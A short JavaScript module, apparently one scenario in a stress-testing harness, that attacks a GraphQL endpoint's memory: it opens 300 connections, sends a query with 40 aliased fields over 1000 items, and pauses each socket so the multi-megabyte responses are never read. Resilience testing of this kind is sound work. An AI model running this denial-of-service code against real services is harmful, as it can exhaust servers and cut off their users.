// 300 connections that request responses of several megabytes and read none. They are opened one after the other,
// because producing the responses takes CPU time from other clients and this attack targets memory.
import { keepConnections, post } from "../sockets.mjs";

const CONNECTIONS = 300;
const PER_SECOND = 10;

export const LARGE = `{ items(first: 1000) { ${
  Array.from({ length: 40 }, (_, index) => `d${index}: description`).join(" ")
} } }`;

export default {
  run({ graphql, signal, sent }) {
    const request = post(graphql, JSON.stringify({ query: LARGE }));
    keepConnections(CONNECTIONS, graphql, signal, (socket) => {
      sent();
      socket.pause();
      socket.write(request);
    }, PER_SECOND);
  },
};
